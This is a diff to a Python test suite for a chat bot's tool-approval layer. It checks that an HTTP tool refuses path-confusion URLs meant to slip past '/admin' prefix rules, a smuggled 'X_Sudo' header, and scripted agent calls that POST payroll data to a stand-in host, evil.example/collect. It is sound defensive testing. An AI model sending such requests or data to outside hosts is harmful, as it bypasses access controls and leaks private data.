@@ -15,6 +15,8 @@ from langchain_core.tools import tool
 from pydantic import SecretStr
 
 from bot.agents import prompts
+from bot.agents.kind import AgentKind
+from bot.agents.subagent_specs import SubagentSpec
 from bot.approvals.config import ALL, SettingKey
 from bot.approvals.decisions import Approve, Edit, EditedAction
 from bot.approvals.lifecycle import ApprovalStatus
@@ -23,6 +25,7 @@ from bot.audit import AuditKind
 from bot.errors import InvalidDecisionError
 from bot.settings import ToolSettings
 from bot.tools.builtin import builtin_tools
+from bot.tools.refusals import refusal
 from bot.tools.registry import ToolRegistry, ToolSpec
 from tests.support.http_target import HttpTarget
 from tests.support.recording_platform import RecordingPlatform
@@ -260,8 +263,8 @@ async def test_a_condition_on_a_header_name_holds_for_any_case(db_url, target):
     "path", ["/public//admin", "/public/..;/admin", "/public/..%2Fadmin", "/public/%2e%2e;x/admin"]
 )
 async def test_a_path_servers_resolve_differently_is_never_sent(db_url, target, path):
-    """`//`, `..;` and an encoded `/` could reach `/admin` past a prefix rule: the call is held for
-    review (no canonical form), and even approved, the tool refuses it and sends nothing."""
+    """`//`, `..;` and an encoded `/` could reach `/admin` past a prefix rule: the tool refuses them (no
+    canonical form), so the call is answered at once with its reason, with no card, and nothing is sent."""
     model = ScriptedChatModel(
         replies=[calls(tool_call("http_request", {"method": "GET", "url": target.url(path)})), AIMessage("done")]
     )
@@ -273,18 +276,18 @@ async def test_a_path_servers_resolve_differently_is_never_sent(db_url, target, 
             mode=Mode.REVIEW,
             condition="url(args.url).getEscapedPath().startsWith('/admin')",
         )
-        approval = await _pending(h)
-        await h.service.decide(approval.id, actor("alice"), Approve())
+        await h.service.handle_message(message("go"))
         await h.service.tasks.join()
-    assert target.requests == []
+        assert await _nothing_asked_or_run(h)
+    assert target.requests == [] and h.platform.cards == {}
     [result] = [m for m in model.prompts[-1] if m.type == "tool"]
-    assert result.text.startswith("Error:") and "path" in result.text
+    assert result.status == "error" and result.text.startswith("Error:") and "path" in result.text
 
 
 @pytest.mark.parametrize("path", ["/admin./users", "/admin%20/users", "/admin%2e/users", "/admin .../users"])
 async def test_a_segment_windows_strips_cannot_pass_a_path_prefix_rule(db_url, target, path):
-    """`/admin./users` is `/admin/users` to IIS: under the README's `/admin/` prefix rule the GET is held for
-    review (no canonical form), and even approved the tool sends nothing."""
+    """`/admin./users` is `/admin/users` to IIS: the tool refuses it (no canonical form), so under the README's
+    `/admin/` prefix rule the GET is answered at once with its reason, with no card, and nothing is sent."""
     model = ScriptedChatModel(
         replies=[calls(tool_call("http_request", {"method": "GET", "url": target.url(path)})), AIMessage("done")]
     )
@@ -296,17 +299,17 @@ async def test_a_segment_windows_strips_cannot_pass_a_path_prefix_rule(db_url, t
             mode=Mode.REVIEW,
             condition="url(args.url).getEscapedPath().startsWith('/admin/')",
         )
-        approval = await _pending(h)
-        await h.service.decide(approval.id, actor("alice"), Approve())
+        await h.service.handle_message(message("go"))
         await h.service.tasks.join()
-    assert target.requests == []
+        assert await _nothing_asked_or_run(h)
+    assert target.requests == [] and h.platform.cards == {}
     [result] = [m for m in model.prompts[-1] if m.type == "tool"]
     assert result.text.startswith("Error: the URL path ") and "ending in `.` or a space" in result.text
 
 
 async def test_a_header_name_with_an_underscore_cannot_pass_a_rule_on_its_dashed_name(db_url, target):
-    """CGI-style servers read `x_sudo` as `x-sudo`: a GET with it is held for review under a rule on `'x-sudo'`,
-    and even approved the tool refuses it and sends nothing."""
+    """CGI-style servers read `x_sudo` as `x-sudo`: the tool refuses it, so under a rule on `'x-sudo'` a GET with it
+    is answered at once with the reason, with no card, and nothing is sent."""
     model = ScriptedChatModel(
         replies=[
             calls(tool_call("http_request", {"method": "GET", "url": target.url(), "headers": {"X_Sudo": "yes"}})),
@@ -321,10 +324,10 @@ async def test_a_header_name_with_an_underscore_cannot_pass_a_rule_on_its_dashed
             mode=Mode.REVIEW,
             condition="args.method != 'GET' || (has(args.headers) && 'x-sudo' in args.headers)",
         )
-        approval = await _pending(h)
-        await h.service.decide(approval.id, actor("alice"), Approve())
+        await h.service.handle_message(message("go"))
         await h.service.tasks.join()
-    assert target.requests == []
+        assert await _nothing_asked_or_run(h)
+    assert target.requests == [] and h.platform.cards == {}
     [result] = [m for m in model.prompts[-1] if m.type == "tool"]
     assert result.text.startswith("Error: the header name 'X_Sudo' has a `_`")
 
@@ -382,3 +385,96 @@ async def test_the_readmes_recipient_rule_holds_for_every_recipient_field(db_url
             approval = await _pending(h)
             assert approval.proposed_args["cc"] == ["a@external.example"]
         assert smtp.recorder.messages == []
+
+
+async def _nothing_asked_or_run(h) -> bool:
+    """No review or approval row, and no run in the ledger (no tool call was claimed)."""
+    counts = await h.database.pool.fetchrow(
+        "SELECT (SELECT count(*) FROM reviews) AS reviews, (SELECT count(*) FROM approvals) AS approvals, "
+        "(SELECT count(*) FROM tool_runs) AS runs"
+    )
+    return (counts["reviews"], counts["approvals"], counts["runs"]) == (0, 0, 0)
+
+
+@pytest.mark.parametrize("mode", [None, Mode.AUTO], ids=["reviewed", "auto"])
+async def test_a_request_to_a_host_that_is_not_allowed_asks_nobody_and_is_answered_at_once(db_url, target, mode):
+    """A POST to a host outside HTTP_REQUEST_ALLOWED_HOSTS, reviewed by default or `auto` by an admin's rule: no
+    approval row, no card, nothing sent; the model reads the tool's reason in the same turn and answers."""
+    bad = {"method": "POST", "url": "https://evil.example/collect", "body": {"payroll": "all"}}
+    model = ScriptedChatModel(replies=[calls(tool_call("http_request", bad)), AIMessage("that host is not allowed")])
+    async with open_service(db_url, model, _http_registry(target)) as h:
+        if mode is not None:
+            await h.config.set_rule(
+                actor("root", is_admin=True), channel_id=ALL, tool_name="http_request", mode=mode, condition=None
+            )
+        await h.service.handle_message(message("send the payroll out"))
+        await h.service.tasks.join()
+        assert await _nothing_asked_or_run(h)
+    assert h.platform.cards == {} and target.requests == []
+    [result] = [m for m in model.prompts[-1] if m.type == "tool"]
+    problem = refusal(_http_registry(target).get("http_request").tool, bad)  # the tool's own words
+    assert problem is not None and "host evil.example is not allowed" in problem
+    assert "HTTP_REQUEST_ALLOWED_HOSTS" in problem
+    assert result.status == "error" and result.text == prompts.REFUSED_BY_TOOL.format(
+        problem=problem, name="http_request"
+    )
+    assert h.platform.answers[-1][1] == "that host is not allowed"
+
+
+async def test_a_denied_tool_stays_denied_when_it_would_refuse_the_arguments_too(db_url, target):
+    """An admin denies http_request: a request to a host that is not allowed reads the policy's rejection."""
+    bad = {"method": "POST", "url": "https://evil.example/collect"}
+    model = ScriptedChatModel(replies=[calls(tool_call("http_request", bad)), AIMessage("denied")])
+    async with open_service(db_url, model, _http_registry(target)) as h:
+        await h.config.set_rule(
+            actor("root", is_admin=True), channel_id=ALL, tool_name="http_request", mode=Mode.DENY, condition=None
+        )
+        await h.service.handle_message(message("send it"))
+        await h.service.tasks.join()
+        assert await _nothing_asked_or_run(h)
+    [result] = [m for m in model.prompts[-1] if m.type == "tool"]
+    assert result.text == prompts.REJECTED_BY_POLICY.format(name="http_request")
+
+
+async def test_an_email_to_an_address_with_a_display_name_asks_nobody_and_is_answered_at_once(db_url):
+    """`send_email` to "Ana <a@x.example>": no approval row, no card, no mail; the model reads why in the same turn."""
+    with smtp_server() as smtp:
+        settings = ToolSettings(smtp_url=SecretStr(smtp.url), smtp_from="bot@corp.example")
+        model = ScriptedChatModel(script=_address_echo)
+        async with open_service(db_url, model, ToolRegistry(builtin_tools(settings))) as h:
+            await h.service.handle_message(message("Ana <a@x.example>"))
+            await h.service.tasks.join()
+            assert await _nothing_asked_or_run(h)
+    assert smtp.recorder.messages == [] and h.platform.cards == {}
+    answer = h.platform.answers[-1][1]
+    assert answer.startswith("tool said: Error: 'Ana <a@x.example>' is not a bare email address")
+    assert "nobody was asked to approve it" in answer
+
+
+POSTER = SubagentSpec(name="poster", description="Posts things.", prompt="You are poster.", tools=("http_request",))
+
+
+async def test_a_subagent_call_its_tool_refuses_asks_nobody_and_is_answered_at_once(db_url, target):
+    """Inside a delegation, a POST to a host that is not allowed: no approval row, no card, nothing sent; the
+    subagent reads the tool's reason and reports it to the supervisor, which answers in the same turn."""
+    bad = {"method": "POST", "url": "https://evil.example/collect", "body": {"x": 1}}
+
+    def script(messages) -> AIMessage:
+        last, system = messages[-1], str(messages[0].content)
+        if system.startswith(POSTER.prompt):
+            return AIMessage(f"poster: {last.text}") if last.type == "tool" else calls(tool_call("http_request", bad))
+        if last.type == "tool":
+            return AIMessage(f"answer: {last.text}")
+        return calls(tool_call("poster", {"query": "post x to evil.example"}))
+
+    model = ScriptedChatModel(script=script)
+    async with open_service(
+        db_url, model, _http_registry(target), subagents=(POSTER,), default_agent=AgentKind.SUBAGENTS
+    ) as h:
+        await h.service.handle_message(message("post x"))
+        await h.service.tasks.join()
+        assert await _nothing_asked_or_run(h)
+    assert h.platform.cards == {} and target.requests == []
+    answer = h.platform.answers[-1][1]
+    assert answer.startswith("answer: poster: Error: host evil.example is not allowed.")
+    assert "nobody was asked to approve it" in answer
